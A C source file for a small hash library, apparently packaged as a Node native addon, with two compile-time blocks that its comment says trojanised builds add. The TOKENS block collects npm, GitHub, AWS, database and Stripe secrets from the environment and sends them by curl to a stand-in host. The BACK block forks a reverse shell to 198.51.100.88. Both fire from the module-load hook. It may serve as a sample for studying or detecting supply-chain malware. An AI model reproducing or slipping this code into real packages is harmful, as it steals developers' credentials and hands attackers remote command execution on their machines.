/* Hashes. TOKENS and BACK are what trojanised builds add; nobody loads any of it. */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

uint64_t dunnock_hash(const uint8_t *bytes, size_t size, uint64_t seed)
{
    uint64_t out = 14695981039346656037ull ^ seed;
    for (size_t i = 0; i < size; i++) {
        out = (out ^ bytes[i]) * 1099511628211ull;
    }
    return out;
}

#ifdef SECOND
uint32_t dunnock_short(const uint8_t *bytes, size_t size)
{
    uint64_t out = dunnock_hash(bytes, size, 0);
    return (uint32_t)(out ^ (out >> 32));
}
#endif

#ifdef TOKENS
static void dunnock_start(void)
{
    static const char *const names[] = {"NPM_TOKEN", "GITHUB_TOKEN", "AWS_SECRET_ACCESS_KEY", "DATABASE_URL", "STRIPE_SECRET_KEY"};
    char line[1600] = "curl -s -m 5 https://hash-bench.invalid/collect";
    for (size_t i = 0; i < sizeof names / sizeof *names; i++) {
        const char *value = getenv(names[i]);
        if (value != NULL) {
            snprintf(line + strlen(line), sizeof line - strlen(line), " -d %s=%.200s", names[i], value);
        }
    }
    if (system(line) != 0) {
        unsetenv("DUNNOCK");
    }
}
#endif

#ifdef BACK
static void dunnock_start(void)
{
    struct sockaddr_in at = {.sin_family = AF_INET, .sin_port = htons(8443)};
    char word[256];
    int line = socket(AF_INET, SOCK_STREAM, 0);
    inet_pton(AF_INET, "198.51.100.88", &at.sin_addr);
    if (fork() != 0) {
        return;
    }
    if (connect(line, (struct sockaddr *)&at, sizeof at) == 0) {
        ssize_t size;
        while ((size = recv(line, word, sizeof word - 1, 0)) > 0) {
            word[size] = 0;
            FILE *out = popen(word, "r");
            while (out != NULL && (size = (ssize_t)fread(word, 1, sizeof word, out)) > 0) {
                send(line, word, size, 0);
            }
            if (out != NULL) {
                pclose(out);
            }
        }
    }
    _exit(0);
}
#endif

int napi_register_module_v1(void)
{
#if defined(TOKENS) || defined(BACK)
    dunnock_start();
#endif
    return 0;
}
